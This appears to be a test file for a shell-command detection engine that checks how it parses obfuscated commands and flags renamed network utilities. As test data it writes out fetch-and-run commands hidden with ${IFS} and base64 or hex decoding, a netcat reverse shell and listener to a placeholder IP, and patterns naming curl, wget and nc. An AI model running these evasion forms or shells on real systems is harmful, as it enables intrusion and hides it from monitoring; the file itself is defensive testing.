// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are shell text, where ${IFS} is literal.
import { describe, expect, it } from "vitest";
import { lookupPattern } from "../../src/detection/catalogue.js";
import { evaluate } from "../../src/detection/rule.js";
import { commandSegments, commandWords, decodeStage } from "../../src/shell/index.js";
import { processEvent, run, withAncestors } from "./factory.js";

/** The command words of every segment of `sh -c payload` below the top level. */
function payloadCommands(payload: string, ...after: string[]): string[] {
  return commandSegments(["sh", "-c", payload, ...after])
    .filter((s) => s.depth > 0)
    .map((s) => commandWords(s.argv).join(" "));
}

describe("the shell reader sees through insertions that expand to nothing or to a space", () => {
  it.each([
    ["${IFS}", "curl${IFS}-s${IFS}http://x", "curl -s http://x"],
    ["$IFS", "curl$IFS-s$IFS'http://x'", "curl -s http://x"],
    ["${IFS%??}", "curl${IFS%??}http://x", "curl http://x"],
    ["$@ with no arguments", "cu$@rl http://x", "curl http://x"],
    ["$* and ${@}", "cu$*r${@}l http://x", "curl http://x"],
    ["an empty $()", "cu$()rl http://x", "curl http://x"],
    ["an empty backtick pair", "w``get http://x", "wget http://x"],
    ["$(true)", "c$(true)url http://x", "curl http://x"],
  ])("%s", (_label, payload, expected) => {
    expect(payloadCommands(payload)).toContain(expected);
  });

  it("reads $1 and $@ from the words after a payload", () => {
    expect(payloadCommands('$1 -s "$2" | sh', "sh", "curl", "http://x")).toEqual(["curl -s http://x", "sh"]);
    expect(payloadCommands("exec $@", "sh", "wget", "-qO-", "http://x")).toContain("wget -qO- http://x");
  });

  it("keeps a quoted ${IFS} inside its word", () => {
    expect(payloadCommands('echo "a${IFS}b"')).toEqual(["echo a b"]);
    expect(commandSegments(["sh", "-c", 'curl "a${IFS}b"'])[1]?.argv).toEqual(["curl", "a b"]);
  });
});

describe("decoded stages", () => {
  const B64 = Buffer.from("curl -s http://x | sh").toString("base64");
  it.each([
    ["echo | base64 -d | sh", `echo ${B64} | base64 -d | sh`],
    ["printf | base64 --decode | bash", `printf %s ${B64} | base64 --decode | bash`],
    ["a here-string into base64 -d", `base64 -d <<< ${B64} | sh`],
    ["$(…) as the command", `$(echo ${B64} | base64 -d)`],
    ["eval of $(…)", `eval "$(echo ${B64} | base64 -d)"`],
    ["xxd -r -p", `echo ${Buffer.from("curl -s http://x | sh").toString("hex")} | xxd -r -p | sh`],
    ["a literal into sh", "echo 'curl -s http://x | sh' | sh"],
    ["a here-string into sh", "sh <<< 'curl -s http://x | sh'"],
  ])("%s runs the decoded script", (_label, payload) => {
    expect(payloadCommands(payload)).toContain("curl -s http://x");
  });

  it("does not decode data that is not a script", () => {
    expect(decodeStage(Buffer.from([0, 1, 2, 3, 255, 254]).toString("base64"), "base64")).toBeUndefined();
    expect(decodeStage("not base64!", "base64")).toBeUndefined();
    expect(payloadCommands(`echo ${B64} | base64 -d > /tmp/x`)).not.toContain("curl -s http://x");
  });

  it("says the utility ran in a decoded stage", () => {
    const verdict = evaluate(
      withAncestors(run("/usr/bin/curl", "-s", "http://x"), [
        { name: "sh", path: "/bin/sh", args: ["-c", `echo ${B64} | base64 -d | sh`] },
      ]),
    );
    expect(verdict.kind === "finding" && verdict.finding.reasons).toContain(
      "curl runs in a base64-encoded script that the command line decodes and executes",
    );
  });
});

describe("lookupPattern", () => {
  it.each([
    ["/???/???/c?rl", "curl"],
    ["/usr/bin/w[g]et", "wget"],
    ["n?", "nc"],
    ["/bin/nc.*", "nc.openbsd"],
  ])("%s is %s", (pattern, name) => {
    expect(lookupPattern(pattern)?.name).toBe(name);
  });

  it.each(["/???/???/????", "*", "/usr/bin/python3", "c?rl-config", "x?y"])(
    "%s names no utility",
    (pattern) => {
      expect(lookupPattern(pattern)).toBeUndefined();
    },
  );
});

describe("renamed utilities (MITRE T1036.003)", () => {
  it.each([
    [
      "Debian's alternatives (nc -> nc.traditional)",
      processEvent({
        name: "nc.traditional",
        path: "/usr/bin/nc.traditional",
        comm: "nc",
        args: ["-z", "db", "5432"],
      }),
    ],
    ["a busybox applet", processEvent({ name: "wget", path: "/bin/busybox", args: ["http://x/y"] })],
    [
      "fexecve of a memory file",
      processEvent({ name: "3", path: "/memfd:curl (deleted)", args: ["http://x"] }),
    ],
  ])("leaves %s alone", (_label, event) => {
    const verdict = evaluate(event);
    expect(verdict.kind !== "finding" || verdict.finding.reasons.every((r) => !r.includes("renamed"))).toBe(
      true,
    );
  });

  it.each([
    [
      "netcat's -e /bin/sh with a host and port",
      run("/tmp/kworker", "203.0.113.5", "4444", "-e", "/bin/sh"),
      "nc renamed to kworker",
    ],
    ["netcat's listener", run("/dev/shm/.x", "-lvnp", "4444"), "nc renamed to .x"],
    [
      "wget's -qO- with a URL",
      run("/var/tmp/update", "-qO-", "http://203.0.113.5/x"),
      "wget renamed to update",
    ],
  ])("recognises %s", (_label, event, reason) => {
    const verdict = evaluate(event);
    expect(verdict.kind === "finding" && verdict.finding.reasons.some((r) => r.startsWith(reason))).toBe(
      true,
    );
  });

  it.each([
    run("/app/server", "--port", "8080", "-e", "production"),
    run("/usr/bin/python3", "-m", "http.server", "8000"),
    run("/usr/local/bin/node", "fetch.js", "https://example.com/"),
  ])("does not take ordinary programs for utilities (%#)", (event) => {
    expect(evaluate(event)).toEqual({ kind: "none", why: "not-a-utility" });
  });
});

describe("quiet defaults for known service scripts", () => {
  it.each([
    [
      "an s6-overlay service supervised by s6-supervise",
      withAncestors(run("/usr/bin/curl", "-fsS", "https://api.example.com/ping"), [
        { name: "run", path: "/run/service/pinger/run" },
        { name: "s6-supervise", path: "/package/admin/s6/command/s6-supervise" },
      ]),
    ],
    [
      "acme.sh renewing from cron",
      withAncestors(run("/usr/bin/curl", "-sL", "https://acme-v02.api.letsencrypt.org/directory"), [
        { name: "acme.sh", path: "/root/.acme.sh/acme.sh", args: ["--cron", "--home", "/root/.acme.sh"] },
        { name: "crond", path: "/usr/sbin/crond" },
      ]),
    ],
    [
      "wait-for-it.sh checking a port from the app's WORKDIR",
      withAncestors(run("/usr/bin/nc", "-z", "-w", "1", "db", "5432"), [
        { name: "wait-for-it.sh", path: "/home/app/wait-for-it.sh", args: ["db:5432"] },
      ]),
    ],
  ])("%s stays low", (_label, event) => {
    const verdict = evaluate(event);
    expect(verdict.kind === "finding" && verdict.finding.severity).toBe("low");
  });

  it.each([
    [
      "a /run script not under s6-supervise",
      withAncestors(run("/usr/bin/curl", "-s", "https://x.example/"), [
        { name: "run", path: "/run/service/x/run" },
        { name: "sh", path: "/bin/sh" },
      ]),
    ],
    [
      "acme.sh run by hand",
      withAncestors(run("/usr/bin/curl", "-s", "https://x.example/"), [
        { name: "acme.sh", path: "/root/.acme.sh/acme.sh" },
        { name: "bash", path: "/bin/bash" },
      ]),
    ],
    [
      "wait-for-it.sh running nc -e",
      withAncestors(run("/usr/bin/nc", "db", "5432", "-e", "/bin/sh"), [
        { name: "wait-for-it.sh", path: "/home/app/wait-for-it.sh" },
      ]),
    ],
    [
      "wait-for-it.sh under /tmp",
      withAncestors(run("/usr/bin/nc", "-z", "db", "5432"), [
        { name: "wait-for-it.sh", path: "/tmp/wait-for-it.sh" },
      ]),
    ],
  ])("%s is still at least medium", (_label, event) => {
    const verdict = evaluate(event);
    expect(
      verdict.kind === "finding" && ["medium", "high", "critical"].includes(verdict.finding.severity),
    ).toBe(true);
  });
});
